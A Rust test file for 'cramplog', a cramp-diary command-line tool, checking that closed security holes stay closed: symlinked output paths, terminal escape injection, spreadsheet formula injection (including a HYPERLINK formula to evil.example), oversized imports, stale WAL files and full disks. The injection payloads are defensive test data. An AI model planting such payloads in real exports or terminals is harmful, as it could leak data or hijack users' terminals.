//! Issue 17: the attacks that got through, each closed and kept closed, through the binary.

#![allow(clippy::print_stderr)] // the full-disk tests say loudly when they cannot run

use std::fs;

use crate::harness::{Env, assert_one_line_error, snapshot};

/// A diary with a few nights, as a patient has after a week.
fn diary() -> Env {
    let env = Env::new();
    env.ok(&["log", "--none"]);
    env.ok(&["log", "2 days ago", "-e", "left calf 2m 7 03:10"]);
    env
}

/// Writes SQL straight into the diary, as another program (or an attacker) could.
fn sql(env: &Env, statement: &str) {
    let conn = rusqlite::Connection::open(env.db()).unwrap();
    conn.execute_batch(statement).unwrap();
}

fn stderr_of(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

// Item 1: no output lands on the diary or its side files, by any path or link.
#[test]
fn no_output_lands_on_the_diary_or_its_side_files() {
    let env = diary();
    let db = env.db();
    let dir = db.parent().unwrap();
    std::os::unix::fs::symlink(&db, env.path("link.md")).unwrap();
    std::os::unix::fs::symlink(dir.join("diary.sqlite3-wal"), env.path("wal.md")).unwrap();
    std::os::unix::fs::symlink(dir.join("diary.sqlite3-journal"), env.path("journal.svg")).unwrap();
    fs::hard_link(&db, env.path("hard.md")).unwrap();
    let dotted = dir.join("..").join("data").join("diary.sqlite3");
    let before = snapshot(&db);
    let targets = [
        db.clone(),
        dotted,
        env.path("link.md"),
        env.path("wal.md"),
        env.path("hard.md"),
        dir.join("diary.sqlite3-shm"),
        dir.join("diary.sqlite3-journal"),
    ];
    for target in &targets {
        let t = target.to_str().unwrap();
        for args in [
            vec!["report", "-o", t, "--force"],
            vec!["report", "--format", "pdf", "-o", t, "--force"],
            vec!["chart", "weekly", "-o", t, "--force"],
            vec!["export", "--format", "json", "-o", t, "--force"],
            vec!["backup", t, "--force"],
        ] {
            let out = env.cmd(&args).output().unwrap();
            let stderr = stderr_of(&out);
            assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
            assert_one_line_error(&stderr);
            assert!(stderr.contains("diary"), "{args:?}: {stderr}");
            assert_eq!(snapshot(&db), before, "{args:?} changed the diary");
        }
    }
    // The journal symlink points at a file that does not exist: still refused, never created.
    assert!(!dir.join("diary.sqlite3-journal").exists());
    let list = env.json(&["list", "--all", "--json"]);
    assert_eq!(list["logged"], 2, "both nights are still there");
}

// Item 2: stored and typed control characters never reach the terminal.
#[test]
fn stored_escapes_are_shown_visibly_never_sent_to_the_terminal() {
    let env = diary();
    env.ok(&[
        "med",
        "add",
        "simvastatin",
        "--class",
        "statin",
        "--start",
        "2026-10-01",
    ]);
    env.ok(&["event", "add", "2026-11-01", "other", "--label", "scan"]);
    // As another program (or an older cramplog's import) could have stored them.
    sql(
        &env,
        "UPDATE nights SET note = 'clip' || char(27) || ']52;c;aGk=' || char(7) || ' clear' || char(27) || '[2J';
         UPDATE medications SET dose = char(27) || '[31m10 mg', name = 'simva' || char(155) || '2J';
         UPDATE events SET label = char(27) || ']0;owned' || char(7);",
    );
    for args in [
        vec!["show", "2 days ago"],
        vec!["list"],
        vec!["med", "list"],
        vec!["event", "list"],
    ] {
        let out = env.cmd(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr_of(&out));
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{args:?} printed a raw control character: {text:?}"
        );
        assert!(
            text.contains("<U+001B>"),
            "{args:?} hides it instead: {text}"
        );
    }
}

#[test]
fn typed_escapes_are_refused_alike_by_the_command_line_and_import() {
    let env = diary();
    let before = snapshot(&env.db());
    for args in [
        vec!["log", "3 days ago", "--none", "--note", "hi\u{1b}[2J"],
        vec![
            "med",
            "add",
            "x\u{1b}[2J",
            "--class",
            "statin",
            "--start",
            "2026-10-01",
        ],
        vec![
            "med",
            "add",
            "y",
            "--class",
            "statin",
            "--start",
            "2026-10-01",
            "--dose",
            "\u{1b}]52;c;aGk=\u{7}",
        ],
        vec!["event", "add", "2026-11-01", "other", "--label", "\u{9b}2J"],
        vec!["log", "--bed", "\u{1b}]52;c;aGk=\u{7}"],
        vec!["lgo\u{1b}[2J"],
    ] {
        let out = env.cmd(&args).output().unwrap();
        let stderr = stderr_of(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert_one_line_error(&stderr);
        assert!(
            !stderr.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?} echoed a raw control character: {stderr:?}"
        );
    }
    assert_eq!(snapshot(&env.db()), before);
    // Import refuses the same text, naming the record and field.
    let file = env.path("hostile.json");
    fs::write(
        &file,
        serde_json::to_vec(&serde_json::json!({
            "format": "cramplog", "version": 1, "profile": {},
            "medications": [{"name": "m", "class": "statin", "start": "2026-01-02", "dose": "\u{1b}[2J"}],
            "events": [{"date": "2026-01-03", "kind": "other", "label": "\u{1b}]0;x\u{7}"}],
            "nights": [{"night": "2026-01-04", "episodes": [], "note": "a\u{1b}[2Jb"}]
        }))
        .unwrap(),
    )
    .unwrap();
    let stderr = env.fails(&["import", file.to_str().unwrap()], 2, "nights[0].note");
    for field in ["medications[0].dose", "events[0].label", "U+001B"] {
        assert!(stderr.contains(field), "{field}: {stderr}");
    }
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    assert_eq!(snapshot(&env.db()), before);
    // What the command line accepts (newlines and tabs in a note), import accepts too.
    env.ok(&[
        "log",
        "4 days ago",
        "--none",
        "--note",
        "two\nlines\tand a tab",
    ]);
    let export = env.ok(&["export", "--format", "json"]);
    let other = Env::new();
    let copy = other.path("x.json");
    fs::write(&copy, &export).unwrap();
    other.ok(&["import", copy.to_str().unwrap()]);
    assert_eq!(other.ok(&["export", "--format", "json"]), export);
}

// Item 3: an argument that is not UTF-8.
#[test]
fn an_argument_that_is_not_utf8_is_a_one_line_error() {
    use std::os::unix::ffi::OsStrExt;
    let env = diary();
    let bad = std::ffi::OsStr::from_bytes(b"\xff\xfe");
    for args in [
        vec![bad],
        vec!["log".as_ref(), "--note".as_ref(), bad],
        vec!["show".as_ref(), bad],
    ] {
        let out = env.cmd(&[]).args(&args).output().unwrap();
        let stderr = stderr_of(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert_one_line_error(&stderr);
    }
}

// Item 8: bounded memory whatever the input.
#[test]
fn import_reads_at_most_its_size_limit() {
    let env = diary();
    let before = snapshot(&env.db());
    let stderr = env.fails(
        &["import", "/dev/zero"],
        2,
        "/dev/zero is larger than 64 MiB",
    );
    assert!(stderr.contains("cramplog export"), "{stderr}");
    // A sparse file bigger than the limit is refused without being read.
    let big = env.path("big.json");
    fs::File::create(&big)
        .unwrap()
        .set_len(65 * 1024 * 1024)
        .unwrap();
    env.fails(&["import", big.to_str().unwrap()], 2, "larger than 64 MiB");
    // And the halves of a CSV pair.
    let dir = env.path("csv");
    fs::create_dir(&dir).unwrap();
    fs::write(dir.join("nights.csv"), "night\n").unwrap();
    fs::File::create(dir.join("episodes.csv"))
        .unwrap()
        .set_len(65 * 1024 * 1024)
        .unwrap();
    env.fails(
        &["import", dir.to_str().unwrap()],
        2,
        "episodes.csv is larger",
    );
    assert_eq!(snapshot(&env.db()), before);
}

// Item 10: spreadsheet formula injection, with a lossless round trip.
#[test]
fn csv_cells_never_start_a_formula_and_round_trip_exactly() {
    let env = Env::new();
    let notes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "'=already quoted",
        "''@twice",
        "'plain quote",
    ];
    for (i, note) in notes.iter().enumerate() {
        env.ok(&[
            "log",
            &format!("{} days ago", i + 1),
            "--none",
            "--no-symptoms",
            &format!("--note={note}"),
        ]);
    }
    env.ok(&["log", "20 days ago", "-e", "left calf 1m 5"]);
    let dir = env.path("csv");
    env.ok(&["export", "--format", "csv", "-o", dir.to_str().unwrap()]);
    for file in ["nights.csv", "episodes.csv"] {
        let bytes = fs::read(dir.join(file)).unwrap();
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        for rec in rdr.records() {
            for cell in rec.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file}: a spreadsheet would run {cell:?}"
                );
            }
        }
    }
    let other = Env::new();
    other.ok(&["import", dir.to_str().unwrap()]);
    assert_eq!(
        other.ok(&["export", "--format", "json"]),
        env.ok(&["export", "--format", "json"]),
        "the CSV round trip is lossless"
    );
}

// Item 9: the CSV pair is one export: its folder is replaced whole, and a torn pair is
// refused.
#[test]
fn a_csv_pair_from_two_exports_is_refused_and_the_folder_is_the_pairs_own() {
    let a = diary();
    let b = Env::new();
    b.ok(&["log", "--none"]);
    b.ok(&["log", "2 days ago", "-e", "left calf 2m 3 03:10"]);
    let (da, db) = (a.path("a"), b.path("b"));
    a.ok(&["export", "--format", "csv", "-o", da.to_str().unwrap()]);
    b.ok(&["export", "--format", "csv", "-o", db.to_str().unwrap()]);
    // Same nights, same episode counts, other pain: a new nights.csv beside an old
    // episodes.csv used to import with exit 0 and the wrong pain.
    fs::copy(db.join("nights.csv"), da.join("nights.csv")).unwrap();
    let reader = Env::new();
    let before = snapshot(&reader.db());
    let err = reader.fails(
        &["import", da.to_str().unwrap()],
        2,
        "nights.csv and episodes.csv are not from the same export",
    );
    assert!(err.contains("delete the export column"), "{err}");
    assert_eq!(snapshot(&reader.db()), before, "nothing written");
    // The same with an episodes.csv of an older cramplog (no export column): refused too.
    // (The export column is the last: dropping it makes the file of an older cramplog.)
    let without_ids = |file: &str| -> String {
        fs::read_to_string(db.join(file))
            .unwrap()
            .lines()
            .map(|l| l.rsplit_once(',').map_or(l, |(head, _)| head).to_string() + "\n")
            .collect()
    };
    fs::write(da.join("episodes.csv"), without_ids("episodes.csv")).unwrap();
    reader.fails(
        &["import", da.to_str().unwrap()],
        2,
        "not from the same export",
    );
    // A pair without ids at all (an older export) still imports.
    fs::write(da.join("nights.csv"), without_ids("nights.csv")).unwrap();
    reader.ok(&["import", da.to_str().unwrap()]);
    assert_eq!(
        reader.ok(&["export", "--format", "json"]),
        b.ok(&["export", "--format", "json"])
    );
    // The export's folder is the pair's own: other files there would be swapped away with
    // it, so it is refused and they stay; the folder you are in too.
    let mixed = a.path("mixed");
    fs::create_dir(&mixed).unwrap();
    fs::write(mixed.join("letter.txt"), "to the GP").unwrap();
    a.fails(
        &[
            "export",
            "--format",
            "csv",
            "-o",
            mixed.to_str().unwrap(),
            "--force",
        ],
        2,
        "holds other files than the export (such as letter.txt)",
    );
    assert_eq!(
        fs::read_to_string(mixed.join("letter.txt")).unwrap(),
        "to the GP"
    );
    assert_eq!(fs::read_dir(&mixed).unwrap().count(), 1);
    let out = a
        .cmd(&["export", "--format", "csv", "-o", ".", "--force"])
        .current_dir(&db)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(stderr_of(&out).contains("is the folder you are in"));
    // Replacing an export: both files are the new export's, owner-only, nothing left over.
    a.ok(&[
        "export",
        "--format",
        "csv",
        "-o",
        db.to_str().unwrap(),
        "--force",
    ]);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        fs::metadata(&db).unwrap().permissions().mode() & 0o777,
        0o700
    );
    let fresh = Env::new();
    fresh.ok(&["import", db.to_str().unwrap()]);
    assert_eq!(
        fresh.ok(&["export", "--format", "json"]),
        a.ok(&["export", "--format", "json"])
    );
    let hidden: Vec<_> = fs::read_dir(db.parent().unwrap())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with('.'))
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
}

// Item 11: the smaller holes.
#[test]
fn a_pinned_today_the_diary_cannot_hold_is_a_usage_error() {
    let env = Env::new();
    for today in ["0000-01-01", "0001-01-01", "9999-12-31"] {
        let out = env
            .cmd(&["log", "--none"])
            .env("CRAMPLOG_TODAY", today)
            .output()
            .unwrap();
        let stderr = stderr_of(&out);
        assert_eq!(out.status.code(), Some(2), "{today}: {stderr}");
        assert_one_line_error(&stderr);
        assert!(stderr.contains("CRAMPLOG_TODAY"), "{stderr}");
    }
    assert!(!env.db().exists());
}

#[test]
fn a_relative_xdg_data_home_is_ignored() {
    let env = Env::new();
    let work = env.path("work");
    fs::create_dir(&work).unwrap();
    let out = env
        .cmd(&["log", "--none"])
        .env_remove("CRAMPLOG_DB")
        .env("XDG_DATA_HOME", "relative/data")
        .current_dir(&work)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(
        !work.join("relative").exists(),
        "the diary followed the working folder"
    );
    assert!(
        env.path(".local/share/cramplog/diary.sqlite3").exists(),
        "the diary is in the home folder's data folder"
    );
}

#[test]
fn a_future_dated_night_survives_the_lossless_round_trip() {
    let env = Env::new();
    // The clock was ahead when this night was logged.
    env.cmd(&["log", "2026-12-03", "--none"])
        .env("CRAMPLOG_TODAY", "2026-12-04")
        .assert()
        .success();
    let export = env.ok(&["export", "--format", "json"]);
    let file = env.path("e.json");
    fs::write(&file, &export).unwrap();
    let other = Env::new();
    let f = file.to_str().unwrap();
    other.fails(&["import", f], 2, "--allow-future");
    other.ok(&["import", f, "--allow-future"]);
    assert_eq!(other.ok(&["export", "--format", "json"]), export);
}

/// A process id that is certainly not running any more.
fn dead_pid() -> u32 {
    let mut child = std::process::Command::new("true").spawn().unwrap();
    let pid = child.id();
    child.wait().unwrap();
    pid
}

#[test]
fn temporary_files_left_by_a_killed_write_are_cleaned_up() {
    let env = diary();
    let pid = dead_pid();
    let stale = env.path(&format!(".report.md.{pid}-0.tmp"));
    fs::write(&stale, "half a report").unwrap();
    let live = env.path(&format!(".report.md.{}-0.tmp", std::process::id()));
    fs::write(&live, "another process is writing this").unwrap();
    env.ok(&["report", "-o", env.path("report.md").to_str().unwrap()]);
    assert!(
        !stale.exists(),
        "a dead process's temporary file is left behind"
    );
    assert!(live.exists(), "a live process's temporary file was removed");
}

#[test]
fn backup_while_another_process_writes_never_reports_a_false_mismatch() {
    let env = std::sync::Arc::new(diary());
    let writer = {
        let env = env.clone();
        std::thread::spawn(move || {
            for i in 0..60 {
                env.ok(&[
                    "log",
                    &format!("{} days ago", 10 + i),
                    "-e",
                    "right foot 30s 4",
                ]);
            }
        })
    };
    let mut failures = Vec::new();
    for i in 0..25 {
        let file = env.path(&format!("b{i}.sqlite3"));
        let out = env
            .cmd(&["backup", file.to_str().unwrap()])
            .output()
            .unwrap();
        if !out.status.success() {
            failures.push(stderr_of(&out));
        }
    }
    writer.join().unwrap();
    assert!(failures.is_empty(), "{failures:?}");
}

/// The nights in the diary, read with SQLite directly.
fn stored_nights(db: &std::path::Path) -> Vec<String> {
    let conn =
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let mut stmt = conn
        .prepare("SELECT night FROM nights ORDER BY night")
        .unwrap();
    stmt.query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// A write-ahead log holding a change to a copy of the diary (the night `drop` deleted),
/// as a stale log of the same diary, or one copied in with another file, would.
fn foreign_wal(env: &Env, drop: &str) -> Vec<u8> {
    let copy = env.path("copy.sqlite3");
    fs::copy(env.db(), &copy).unwrap();
    let conn = rusqlite::Connection::open(&copy).unwrap();
    let _: String = conn
        .query_row("PRAGMA journal_mode=WAL", [], |r| r.get(0))
        .unwrap();
    conn.execute_batch("PRAGMA wal_autocheckpoint=0;").unwrap();
    conn.execute("DELETE FROM nights WHERE night = ?1", [drop])
        .unwrap();
    let wal = fs::read(env.path("copy.sqlite3-wal")).unwrap();
    assert!(wal.len() > 32, "the log holds frames");
    drop_conn(conn);
    wal
}

fn drop_conn(conn: rusqlite::Connection) {
    drop(conn);
}

// Item 6: a stale or foreign -wal is never replayed into the diary.
#[test]
fn a_stale_or_foreign_wal_is_never_replayed() {
    let env = diary();
    let before = stored_nights(&env.db());
    assert_eq!(before, ["2026-11-25", "2026-11-26"]);
    let wal = foreign_wal(&env, "2026-11-25");
    let side = crate::harness::side(&env.db(), "-wal");
    fs::write(&side, &wal).unwrap();
    let out = env.ok(&["check"]);
    assert!(
        out.contains("Leftover file"),
        "check says what it found: {out}"
    );
    assert!(out.contains("What to do"), "and what to do: {out}");
    assert_eq!(
        stored_nights(&env.db()),
        before,
        "the log reverted a saved night"
    );
    // Every other command too: the log is set aside, never read.
    fs::write(&side, &wal).unwrap();
    env.ok(&["log", "5 days ago", "--none"]);
    let mut expected = before.clone();
    expected.insert(0, "2026-11-22".to_string());
    assert_eq!(stored_nights(&env.db()), expected);
    let conn = rusqlite::Connection::open(env.db()).unwrap();
    let ok: String = conn
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(ok, "ok");
}

// Item 6: restore, verified, in one step, keeping the diary as it was.
#[test]
fn restore_brings_back_a_verified_backup_and_keeps_the_diary_as_a_dated_copy() {
    let env = diary();
    let backup = env.path("b.sqlite3");
    let b = backup.to_str().unwrap();
    env.ok(&["backup", b]);
    env.ok(&["log", "6 days ago", "--none"]);
    let replaced = fs::read(env.db()).unwrap();
    // A leftover log beside the diary (as after copying a backup over it by hand).
    let wal = foreign_wal(&env, "2026-11-26");
    fs::write(crate::harness::side(&env.db(), "-wal"), &wal).unwrap();
    let out = env.ok(&["restore", b]);
    assert!(out.contains("verified"), "{out}");
    let kept = env
        .db()
        .with_file_name("diary.sqlite3.before-restore-2026-11-27");
    assert!(out.contains(kept.to_str().unwrap()), "{out}");
    assert_eq!(
        fs::read(&kept).unwrap(),
        replaced,
        "the diary as it was is kept"
    );
    assert_eq!(stored_nights(&env.db()), ["2026-11-25", "2026-11-26"]);
    assert!(env.ok(&["check"]).contains("The diary is healthy"));
    use std::os::unix::fs::PermissionsExt;
    for f in [env.db(), kept.clone()] {
        assert_eq!(
            fs::metadata(&f).unwrap().permissions().mode() & 0o777,
            0o600
        );
    }
    // A second restore the same day keeps another copy; nothing is overwritten.
    env.ok(&["restore", b]);
    assert!(kept.exists());
    assert!(
        env.db()
            .with_file_name("diary.sqlite3.before-restore-2026-11-27-2")
            .exists()
    );
    // What is not a sound backup is refused and changes nothing.
    let before = snapshot(&env.db());
    fs::write(env.path("junk.sqlite3"), "not a diary").unwrap();
    env.fails(
        &["restore", env.path("junk.sqlite3").to_str().unwrap()],
        1,
        "cannot be restored",
    );
    env.fails(
        &["restore", env.path("nothing").to_str().unwrap()],
        2,
        "no backup file",
    );
    env.fails(
        &["restore", env.db().to_str().unwrap()],
        2,
        "the diary itself",
    );
    let damaged = env.path("damaged.sqlite3");
    fs::copy(&backup, &damaged).unwrap();
    rusqlite::Connection::open(&damaged)
        .unwrap()
        .execute_batch("UPDATE nights SET bed_time = '29:59'")
        .unwrap();
    env.fails(&["restore", damaged.to_str().unwrap()], 1, "bed_time");
    assert_eq!(snapshot(&env.db()), before);
}

// Item 7: check reads every row as the program does; writes refuse a damaged diary.
#[test]
fn check_reports_values_cramplog_cannot_read_and_log_refuses_to_write_beside_them() {
    let env = diary();
    env.ok(&["log", "3 days ago", "--none"]);
    sql(
        &env,
        "UPDATE nights SET bed_time = '29:59' WHERE night = '2026-11-25';
         UPDATE nights SET night = '2026-19-39' WHERE night = '2026-11-24';",
    );
    let out = env.cmd(&["check"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("the night of 2026-11-25 (a cramp episode)")
            || text.contains("the night of 2026-11-25, bed_time"),
        "{text}"
    );
    assert!(
        text.contains("bed_time: ") && text.contains("'29:59'"),
        "{text}"
    );
    assert!(text.contains("the night of 2026-19-39, night"), "{text}");
    assert!(!text.contains("healthy"), "{text}");
    assert!(
        text.contains("cramplog restore"),
        "check says what to do: {text}"
    );
    let json = env.cmd(&["check", "--json"]).output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["healthy"], false);
    assert_eq!(v["row_problems"].as_array().unwrap().len(), 2);
    let before = snapshot(&env.db());
    let stderr = env.fails(&["log", "8 days ago", "--none"], 1, "cramplog check");
    assert!(stderr.contains("damaged"), "{stderr}");
    assert_eq!(
        snapshot(&env.db()),
        before,
        "nothing was written into the damaged diary"
    );
    // A dropped table is damage too, never "healthy".
    let env = diary();
    sql(&env, "DROP TABLE symptoms;");
    let out = env.cmd(&["check"]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("table symptoms: the table is missing"),
        "{text}"
    );
    assert!(!text.contains("healthy"), "{text}");
    env.fails(&["log", "8 days ago", "--none"], 1, "cramplog check");
}

// Item 5: a read-only diary stays readable, and errors name the real cause.
#[test]
fn a_diary_in_a_read_only_folder_is_readable_and_writes_say_why_they_fail() {
    use std::os::unix::fs::PermissionsExt;
    let env = diary();
    let dir = env.db().parent().unwrap().to_path_buf();
    fs::set_permissions(env.db(), fs::Permissions::from_mode(0o400)).unwrap();
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o500)).unwrap();
    // Root may write anyway; then this test cannot show a refusal, only that reads work.
    let root = fs::write(dir.join("probe"), "x").is_ok();
    let _ = fs::remove_file(dir.join("probe"));
    let before = snapshot(&env.db());
    for args in [
        vec!["list", "--all"],
        vec!["report"],
        vec!["export", "--format", "json"],
        vec!["check"],
        vec!["show", "2 days ago"],
    ] {
        let out = env.cmd(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr_of(&out));
    }
    if !root {
        let stderr = env.fails(&["log", "9 days ago", "--none"], 1, "read-only");
        assert!(!stderr.contains("not a cramplog diary"), "{stderr}");
    }
    assert_eq!(snapshot(&env.db()), before);
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o700)).unwrap();
}

/// A small ext4 file system (1 KiB blocks) on a loop device, unmounted when dropped. These
/// tests need root and loop devices: where the machine cannot mount, they say so loudly and
/// pass, except under CI=true, where a test that cannot run fails (.ci/run installs e2fsprogs).
struct LoopFs {
    dir: tempfile::TempDir,
    mount: std::path::PathBuf,
}

impl LoopFs {
    fn new(kib: u64) -> Option<LoopFs> {
        let dir = tempfile::tempdir().unwrap();
        let image = dir.path().join("fs.img");
        fs::File::create(&image)
            .unwrap()
            .set_len(kib * 1024)
            .unwrap();
        let mount = dir.path().join("mnt");
        fs::create_dir(&mount).unwrap();
        let run = |cmd: &str, args: &[&std::ffi::OsStr]| {
            std::process::Command::new(cmd)
                .args(args)
                .output()
                .map_err(|e| format!("{cmd}: {e}"))
                .and_then(|o| {
                    if o.status.success() {
                        Ok(())
                    } else {
                        Err(format!(
                            "{cmd}: {}",
                            String::from_utf8_lossy(&o.stderr).trim()
                        ))
                    }
                })
        };
        let made = run(
            "mkfs.ext4",
            &[
                "-q".as_ref(),
                "-F".as_ref(),
                "-m".as_ref(),
                "0".as_ref(),
                "-b".as_ref(),
                "1024".as_ref(),
                image.as_os_str(),
            ],
        )
        .and_then(|()| {
            run(
                "mount",
                &[
                    "-o".as_ref(),
                    "loop".as_ref(),
                    image.as_os_str(),
                    mount.as_os_str(),
                ],
            )
        });
        match made {
            Ok(()) => Some(LoopFs { dir, mount }),
            Err(why) => {
                let ci = std::env::var("CI").is_ok_and(|v| v == "true");
                assert!(
                    !ci,
                    "CI=true: this test needs to mount a small ext4 file system and cannot ({why}); run CI as root with loop devices and e2fsprogs"
                );
                eprintln!(
                    "SKIPPED (NOT RUN): cannot mount a small ext4 file system on this machine ({why}); the full-disk and read-only-disk tests did not run"
                );
                None
            }
        }
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.mount.join(name)
    }

    fn remount(&self, how: &str) {
        let out = std::process::Command::new("mount")
            .args(["-o", &format!("remount,{how}")])
            .arg(&self.mount)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// Fills the disk until exactly `free` KiB remain (or as close as ext4 allows).
    fn fill_leaving(&self, free_kib: u64) {
        let fill = self.path("fill");
        let _ = fs::remove_file(&fill);
        let stat = std::process::Command::new("df")
            .args(["-k", "--output=avail"])
            .arg(&self.mount)
            .output()
            .unwrap();
        let avail: u64 = String::from_utf8_lossy(&stat.stdout)
            .lines()
            .nth(1)
            .and_then(|l| l.trim().parse().ok())
            .unwrap();
        let mut f = fs::File::create(&fill).unwrap();
        let chunk = vec![0u8; 1024];
        use std::io::Write;
        for _ in 0..avail.saturating_sub(free_kib) {
            if f.write_all(&chunk).is_err() {
                break;
            }
        }
        let _ = f.sync_all();
    }
}

impl Drop for LoopFs {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg(&self.mount)
            .status();
        let _ = &self.dir;
    }
}

fn on(fs_: &LoopFs, db: &std::path::Path, args: &[&str]) -> std::process::Output {
    let env = Env::new();
    env.cmd(args)
        .env("CRAMPLOG_DB", db)
        .current_dir(&fs_.mount)
        .output()
        .unwrap()
}

// Item 4: a full disk is a clear one-line error, never a signal, the diary unchanged.
#[test]
fn a_full_disk_is_a_clear_error_never_a_crash() {
    let Some(disk) = LoopFs::new(3 * 1024) else {
        return;
    };
    let db = disk.path("d/diary.sqlite3");
    for i in 1..=20 {
        let out = on(
            &disk,
            &db,
            &[
                "log",
                &format!("{i} days ago"),
                "-e",
                "left calf 2m 7",
                "--note",
                &"n".repeat(300),
            ],
        );
        assert!(out.status.success(), "{}", stderr_of(&out));
    }
    let long_note = "x".repeat(15_000);
    let (mut runs, mut refused) = (0, 0);
    for free in [0u64, 1, 2, 3, 4, 6, 8, 12, 16, 24, 32, 48] {
        disk.fill_leaving(free);
        let out_file = disk.path("out");
        let o = out_file.to_str().unwrap();
        let commands: Vec<Vec<&str>> = vec![
            vec![
                "log",
                "30 days ago",
                "--none",
                "--note",
                &long_note,
                "--replace",
            ],
            vec!["list", "--all"],
            vec!["check"],
            vec!["report", "-o", o, "--force"],
            vec!["export", "--format", "json", "-o", o, "--force"],
            vec!["backup", o, "--force"],
            vec!["edit", "2 days ago", "--note", &long_note],
        ];
        for args in &commands {
            let before = snapshot(&db);
            let out = on(&disk, &db, args);
            runs += 1;
            let stderr = stderr_of(&out);
            match out.status.code() {
                Some(0) => {}
                Some(1) => {
                    refused += 1;
                    assert_one_line_error(&stderr);
                    assert!(
                        stderr.contains("full") || stderr.contains("space"),
                        "{args:?} with {free} KiB free: the error does not name the full disk: {stderr}"
                    );
                    assert!(!stderr.contains("not a cramplog diary"), "{stderr}");
                    assert_eq!(
                        snapshot(&db),
                        before,
                        "{args:?} failed but changed the diary"
                    );
                }
                other => panic!(
                    "{:?} with {free} KiB free ended with {other:?} ({:?}): {stderr}",
                    args[0], out.status
                ),
            }
        }
    }
    // The first log of a new diary on a full disk leaves no diary file behind.
    disk.fill_leaving(0);
    let fresh = disk.path("d/new.sqlite3");
    let out = on(&disk, &fresh, &["log", "--none", "--note", &long_note]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
    assert!(!fresh.exists(), "a failed first log left a diary file");
    let _ = fs::remove_file(disk.path("fill"));
    let out = on(&disk, &db, &["check"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(
        refused > 0,
        "the disk never filled up: the test lost its teeth"
    );
    eprintln!("full-disk test: {runs} runs, {refused} refused with a clear error, 0 signals");
}

// Item 5 on a read-only disk (which root cannot write either).
#[test]
fn a_diary_on_a_read_only_disk_is_readable() {
    let Some(disk) = LoopFs::new(2 * 1024) else {
        return;
    };
    let db = disk.path("d/diary.sqlite3");
    for args in [
        vec!["log", "--none"],
        vec!["log", "2 days ago", "-e", "left calf 1m 5"],
    ] {
        assert!(on(&disk, &db, &args).status.success());
    }
    disk.remount("ro");
    let before = snapshot(&db);
    for args in [
        vec!["list", "--all"],
        vec!["report"],
        vec!["export", "--format", "json"],
        vec!["check"],
    ] {
        let out = on(&disk, &db, &args);
        assert!(out.status.success(), "{args:?}: {}", stderr_of(&out));
    }
    let out = on(&disk, &db, &["log", "5 days ago", "--none"]);
    let stderr = stderr_of(&out);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert_one_line_error(&stderr);
    assert!(stderr.contains("read-only"), "{stderr}");
    assert!(!stderr.contains("not a cramplog diary"), "{stderr}");
    assert_eq!(snapshot(&db), before);
    disk.remount("rw");
}
